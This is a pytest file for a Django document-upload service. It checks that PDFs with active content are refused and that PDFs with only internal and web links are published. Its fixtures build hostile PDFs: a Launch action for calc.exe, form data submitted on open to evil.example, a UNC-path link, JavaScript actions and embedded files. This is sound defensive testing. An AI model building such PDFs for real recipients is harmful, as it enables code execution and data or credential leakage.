"""A PDF may link inside itself and, from a link, to a web page; nothing else it could do
when opened or clicked is published, however its objects are hidden (#22)."""

import pytest
from pypdf.generic import NameObject

from documents.models import Document
from tests.documents.test_pdf_uploads import SAVE_AGAIN, post_document
from tests.images import upload
from tests.pdfs import annotate, indirect, make_pdf, pdf_object

pytestmark = pytest.mark.django_db

JAVASCRIPT = "Ce PDF contient du JavaScript"
LAUNCH = "lance un autre programme"
EMBEDDED = "contient d’autres fichiers"
ACTION = "Ce PDF contient une action qui ouvre un autre fichier ou une adresse"
MEDIA = "Ce PDF contient un média, un modèle 3D"


def on_open(action):
    def customise(writer):
        writer.root_object[NameObject("/OpenAction")] = indirect(writer, action(writer))

    return customise


def on_annotation(annotation):
    def customise(writer):
        annotate(writer, annotation(writer))

    return customise


def on_page(key, value):
    def customise(writer):
        writer.pages[0][NameObject(key)] = indirect(writer, value(writer))

    return customise


def three_d_with_javascript(writer):
    model = pdf_object(b"U3D model")
    model[NameObject("/Type")] = NameObject("/3D")
    model[NameObject("/Subtype")] = NameObject("/U3D")
    model[NameObject("/OnInstantiate")] = indirect(writer, b"host.app.alert('3D');")
    return {"/Subtype": "/3D", "/3DD": writer._add_object(model)}


def uri_link(address):
    return on_annotation(lambda w: {"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": address}})


HOSTILE = {
    "open-action-with-indirect-launch": (
        on_open(lambda w: {"/S": indirect(w, "/Launch"), "/F": "calc.exe"}),
        LAUNCH,
    ),
    "file-attachment-with-indirect-subtype": (
        on_annotation(
            lambda w: {
                "/Subtype": indirect(w, "/FileAttachment"),
                "/FS": {"/Type": "/Filespec", "/F": "notes.txt", "/EF": {"/F": indirect(w, b"x")}},
            }
        ),
        EMBEDDED,
    ),
    "file-specification-with-embedded-file": (
        on_annotation(
            lambda w: {
                "/Subtype": "/Link",
                "/A": {"/S": "/GoTo", "/D": [0, "/Fit"]},
                "/FS": indirect(w, {"/F": "notes.txt", "/EF": {"/F": indirect(w, b"x")}}),
            }
        ),
        EMBEDDED,
    ),
    "3d-annotation-with-javascript": (on_annotation(three_d_with_javascript), MEDIA),
    "submit-form-on-open": (
        on_open(
            lambda w: {
                "/S": "/SubmitForm",
                "/F": {"/FS": "/URL", "/F": "https://evil.example/collect"},
            }
        ),
        ACTION,
    ),
    "link-to-another-file-on-a-unc-path": (
        on_annotation(
            lambda w: {
                "/Subtype": "/Link",
                "/A": {
                    "/S": "/GoToR",
                    "/F": r"\\evil.example\share\rapport.pdf",
                    "/D": [0, "/Fit"],
                },
            }
        ),
        ACTION,
    ),
    "go-to-an-embedded-file-on-open": (
        on_open(lambda w: {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "annexe.pdf"}}),
        EMBEDDED,
    ),
    "import-data-with-indirect-type": (
        on_open(lambda w: {"/S": indirect(w, "/ImportData"), "/F": "donnees.fdf"}),
        ACTION,
    ),
    "rendition-on-open": (on_open(lambda w: {"/S": "/Rendition", "/OP": 0}), MEDIA),
    "web-address-opened-on-open": (
        on_open(lambda w: {"/S": "/URI", "/URI": "https://evil.example/pixel"}),
        ACTION,
    ),
    "javascript-in-the-page-actions": (
        on_page(
            "/AA",
            lambda w: {
                "/O": indirect(w, {"/S": indirect(w, "/JavaScript"), "/JS": indirect(w, "1")})
            },
        ),
        JAVASCRIPT,
    ),
    "javascript-link": (
        on_annotation(
            lambda w: {"/Subtype": "/Link", "/A": {"/S": "/JavaScript", "/JS": "app.alert(1)"}}
        ),
        JAVASCRIPT,
    ),
    "javascript-in-a-form-field-actions": (
        on_annotation(
            lambda w: {
                "/Subtype": "/Widget",
                "/AA": {"/E": {"/S": indirect(w, "/JavaScript"), "/JS": "app.alert(1)"}},
            }
        ),
        JAVASCRIPT,
    ),
    "link-to-a-file-address": (uri_link("file://evil.example/share/rapport.pdf"), ACTION),
    "link-running-javascript-from-its-address": (uri_link("javascript:app.alert(1)"), ACTION),
    "movie-annotation": (on_annotation(lambda w: {"/Subtype": "/Movie"}), MEDIA),
}


@pytest.mark.parametrize(("customise", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_pdf_acting_beyond_its_own_pages_and_web_links_is_refused(
    staff_client, customise, message
):
    hostile = make_pdf(customise=customise)

    response = post_document(staff_client, file=upload("rapport.pdf", hostile, "application/pdf"))

    html = response.content.decode()
    assert response.status_code == 200
    assert message in html
    assert SAVE_AGAIN in html
    assert not Document.objects.exists()


def links_and_structure(writer):
    page = writer.pages[0]
    annotations = [
        {"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "https://www.le-partenariat.org/"}},
        {"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "mailto:contact@example.org"}},
        {"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": [page.indirect_reference, "/Fit"]}},
        {"/Subtype": "/Link", "/Dest": [page.indirect_reference, "/Fit"], "/BS": {"/S": "/S"}},
    ]
    page[NameObject("/Annots")] = pdf_object(
        [indirect(writer, {"/Type": "/Annot", "/Rect": [0, 0, 9, 9], **a}) for a in annotations]
    )
    writer.root_object[NameObject("/OpenAction")] = pdf_object([page.indirect_reference, "/Fit"])
    # What Word writes for a tagged PDF: structure elements, whose /S is a role, not an action.
    writer.root_object[NameObject("/StructTreeRoot")] = indirect(
        writer, {"/Type": "/StructTreeRoot", "/K": [{"/S": "/P", "/Pg": page.indirect_reference}]}
    )
    page[NameObject("/Group")] = pdf_object({"/S": "/Transparency", "/CS": "/DeviceRGB"})


def test_a_pdf_with_links_inside_itself_and_to_web_pages_is_published(staff_client):
    response = post_document(
        staff_client,
        file=upload("rapport.pdf", make_pdf(customise=links_and_structure), "application/pdf"),
    )

    assert response.status_code == 302
    assert Document.objects.get().page_count == 1
